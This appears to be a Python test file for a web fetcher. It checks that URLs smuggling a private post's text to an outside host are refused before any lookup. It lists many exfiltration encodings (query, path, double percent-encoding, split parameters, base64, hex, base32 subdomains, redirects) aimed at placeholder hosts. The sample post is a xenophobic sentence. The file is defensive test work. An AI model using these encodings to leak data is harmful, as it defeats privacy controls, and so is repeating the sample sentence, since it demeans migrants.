"""URLs that carry the post's own text to a site."""

from __future__ import annotations

import base64
from urllib.parse import quote, quote_plus

from tests.retrievers.web.fetch.attack import Attacks
from tests.retrievers.web.fetch.small_web import Web, to

ATTACKS = Attacks()

POST = "Everyone who moved into our street last year should pack up and go back to where they came from, all of them."


def carrying(url: str, attack: str) -> None:
    async def run(web: Web) -> str:
        found = await web.outcome(url, secret_text=POST)
        assert web.dialled == [] == web.lookups
        return found

    what = f"A URL that carries the post's text outward, {attack}"
    ATTACKS.add(what, "refused: outward", "Not even the name is looked up")(run)


_RAW = POST.encode()
carrying(f"http://site.test/?q={quote_plus(POST)}", "in the query, `+` for spaces")
carrying(f"http://site.test/{quote(POST)}", "in the path, percent-encoded")
carrying(f"http://site.test/?q={quote(quote(POST))}", "percent-encoded twice")
carrying(
    f"http://site.test/?q=the+post+was:+{quote_plus(POST[20:80].upper())}", "in part, in capitals"
)
carrying(
    f"http://site.test/?a={quote(POST[:30])}&b={quote(POST[30:60])}", "cut over two parameters"
)
carrying(f"http://site.test/{base64.b64encode(_RAW).decode()}", "in base64")
carrying(
    f"http://site.test/?q=id-{base64.urlsafe_b64encode(_RAW).decode()}",
    "in base64url behind a prefix",
)
carrying(f"http://site.test/?q={_RAW.hex()}", "in hexadecimal")
_LABELS = base64.b32encode(_RAW[:60]).decode().rstrip("=").lower()
carrying(f"http://{_LABELS[:60]}.{_LABELS[60:]}.site.test/", "in base32 as a host name")


@ATTACKS.add(
    "A redirect that carries the post's text on", "refused: outward", "Every hop is checked anew"
)
async def carried_on(web: Web) -> str:
    web.site.answers["/"] = to(f"http://else.test/?q={quote(POST)}")
    found = await web.outcome("http://site.test/", secret_text=POST)
    assert "else.test" not in web.lookups
    return found
